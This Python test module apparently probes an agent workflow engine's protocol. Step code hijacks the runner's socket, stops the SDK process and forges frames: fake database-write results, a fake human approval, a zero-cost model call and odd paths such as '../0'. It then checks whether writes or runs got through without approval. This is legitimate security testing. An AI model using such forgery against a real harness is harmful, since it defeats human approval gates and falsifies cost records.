"""Results of its own in the runner's socket: of writes, of a yes, of a cheap model call, of tools that were not run"""

import contextlib
import json
import os
import signal
import socket
import sqlite3
import struct

from attack import Host, Ran, Setup, runner_socket, settings_of_model
from attack import Trick as Base

WRITE = {"kind": "db", "name": "execute", "request": {"sql": "INSERT INTO log VALUES ('forged')"}}
CALL = {"model": "m", "messages": [{"role": "user", "content": "hello"}], "max_tokens": 5}
QUESTION = {"message": "may I?", "approvers": ["anyone"], "details": {}}
DONE = {"rows_affected": 1, "last_insert_id": 1, "columns": [], "rows": []}
YES = {"approved": True, "comment": "yes", "by": "local:root"}
FREE = {"text": "free", "cost_usd": "0", "usage": {"input_tokens": 0, "output_tokens": 0}, "tool_calls": []}
"""What the engine is to believe."""
SAYS = {"approved": True, "consumed": True, "fingerprint": "0" * 64, "state": "finished", "order": 1, "place": 1, "hold": None,
        "cost_usd": "0", "attributes": {"approved": True}, "ok": DONE}  # fmt: skip


def answer(client: socket.socket) -> None:
    """A model: a reply costs 1,000 tokens of input and 5 of output."""
    with contextlib.suppress(OSError):
        seen = b""
        while b"\r\n\r\n" not in seen:
            seen += client.recv(65536)
        usage = {"prompt_tokens": 1000, "completion_tokens": 5, "total_tokens": 1005}
        choice = {"index": 0, "message": {"role": "assistant", "content": "paid"}, "finish_reason": "stop"}
        body = json.dumps(
            {"id": "1", "object": "chat.completion", "model": "m", "choices": [choice], "usage": usage}
        ).encode()
        head = f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        client.sendall(head.encode() + body)


class Conversation:
    """The engine's, taken over from the SDK, whose process is stopped."""

    def __init__(self) -> None:
        self.stream, runner = socket.socket(fileno=os.dup(runner_socket())), os.getpid()
        self.stream.settimeout(60)
        if child := os.fork():
            os.waitpid(child, 0)
            raise SystemExit("told everything")
        os.kill(runner, signal.SIGSTOP)

    def say(self, frame: str, **keys: object) -> None:
        body = json.dumps({"type": frame, **keys}).encode()
        with contextlib.suppress(OSError):
            self.stream.sendall(struct.pack(">I", len(body)) + body)

    def effect(self, seq: int, path: str = "0", **keys: object) -> None:
        self.say("effect", path=path, seq=seq, after=0, **keys)

    def claim(self, seq: int, result: object, path: str = "0") -> None:
        """A result, in every form in which either side gives one."""
        self.say("effect_done", path=path, seq=seq, result=result)
        self.say("effect_cancelled", path=path, seq=seq, after=0)

    def hear(self) -> object:
        """The next result of the engine's; none when it hangs up."""
        while True:
            length = self.read(4)
            frame = json.loads(self.read(int.from_bytes(length, "big")) or b"{}") if length else None
            if frame is None or frame.get("type") == "effect_result":
                return frame

    def read(self, count: int) -> bytes:
        data = b""
        with contextlib.suppress(OSError):
            while len(data) < count and (more := self.stream.recv(count - len(data))):
                data += more
        return data if len(data) == count else b""


def a_write(engine: Conversation) -> None:
    engine.effect(0, **WRITE)
    engine.claim(0, DONE)


def a_write_with_more(engine: Conversation) -> None:
    engine.effect(0, **WRITE, **SAYS)
    engine.say("approval_decided", path="0", seq=0, **SAYS)


def an_answer_of_the_engine(engine: Conversation) -> None:
    engine.effect(0, **WRITE)
    engine.say("effect_result", path="0", seq=0, ok=DONE, order=1)


def a_yes(engine: Conversation) -> None:
    engine.effect(0, kind="approval", name="approve", request=QUESTION)
    engine.say("effect_done", path="0", seq=0, result=YES)
    engine.effect(1, **WRITE)
    engine.claim(1, DONE)


def a_yes_of_the_engine(engine: Conversation) -> None:
    engine.effect(0, kind="approval", name="approve", request=QUESTION)
    engine.say("effect_result", path="0", seq=0, ok=YES)


def what_was_not_asked(engine: Conversation) -> None:
    for path in ("0", "1", "@gateway/00", "@undo/main", "../0"):
        engine.say("effect_done", path=path, seq=0, result=DONE)
    engine.effect(0, **WRITE)
    engine.effect(0, **WRITE)


def a_free_call(engine: Conversation) -> None:
    engine.effect(0, kind="llm", name="chat", request=CALL, **SAYS)
    engine.say("effect_done", path="0", seq=0, result=FREE)
    print("heard:", json.dumps(engine.hear()), flush=True)


def another_workflow(engine: Conversation) -> None:
    steps = [{"name": "attack-0", "type": "agent", "approval": None}]
    engine.say("definition", definition={"name": "attack", "steps": steps}, files=[], interpreter="cpython-3.11")
    engine.effect(0, **WRITE)


def a_tool(engine: Conversation) -> None:
    run = {"argv": ["true"], "cwd": None, "env": {}, "stdin": None}
    engine.effect(0, kind="tool", name="run", request=run)
    for result in ({"restore": True}, {"execute": True}, {"exit_code": 0, "stdout": "", "stderr": ""}):
        engine.say("effect_done", path="0", seq=0, result=result)
    engine.effect(1, **WRITE)


def an_end_of_its_wait(engine: Conversation) -> None:
    engine.effect(0, **WRITE)
    engine.say("suspended", on=[{"path": "0", "seq": 0}])
    engine.say("effect_cancelled", path="0", seq=0, after=4_000_000_000)
    engine.effect(1, **WRITE)


FORGED = {made.__name__: made for made in (a_write, a_write_with_more, an_answer_of_the_engine, a_yes, a_yes_of_the_engine,
          what_was_not_asked, a_free_call, another_workflow, a_tool, an_end_of_its_wait)}  # fmt: skip


class Trick(Base):
    area = "protocol"
    no_control = "without a sandbox nobody listens"

    def prepare(self, host: Host) -> Setup:
        at = host.folder / "records.db"
        with contextlib.closing(sqlite3.connect(at)) as database:
            database.execute("CREATE TABLE log (what TEXT)")
            database.commit()
        host.give(at)
        setup = Setup()
        setup.project = host.dir("project")
        setup.step, setup.options = "approval_required=True", ["--no-wait"]
        setup.runs, setup.shown = list(FORGED), [["runs", "show", "latest", "--json"]]
        setup.env["A_KEY"] = "the-key-of-the-provider"
        setup.settings = f"""
[databases.main]
url = "sqlite:{at}"
""" + settings_of_model(host.serve("127.0.0.1", answer), "1000", 4096, 5)
        return setup

    def inside(self, word: str, step: str) -> None:
        engine = Conversation()
        try:
            FORGED[word](engine)
            engine.say("succeeded", output="forged", state={}, cost_usd="0")
            while engine.read(1):
                pass
        except BaseException as error:
            print(repr(error), flush=True)
        finally:
            os.kill(os.getppid(), signal.SIGCONT)
            os._exit(0)

    def escaped(self, host: Host, ran: Ran) -> str | None:
        runs = [json.loads(line) for line in ran.output.splitlines() if line.startswith('{"')]
        assert len(runs) == len(FORGED), ran
        with contextlib.closing(sqlite3.connect(host.folder / "records.db")) as database:
            if rows := database.execute("SELECT * FROM log").fetchall():
                return f"{len(rows)} writes without a yes"
        if through := [word for word, run in zip(FORGED, runs, strict=True) if run["status"] == "completed"]:
            return f"completed without a yes: {through}"
        paid = dict(zip(FORGED, runs, strict=True))["a_free_call"]["cost_usd"]
        return None if float(paid) == 1.005 else f"a call that costs 1.005 was charged with {paid}"
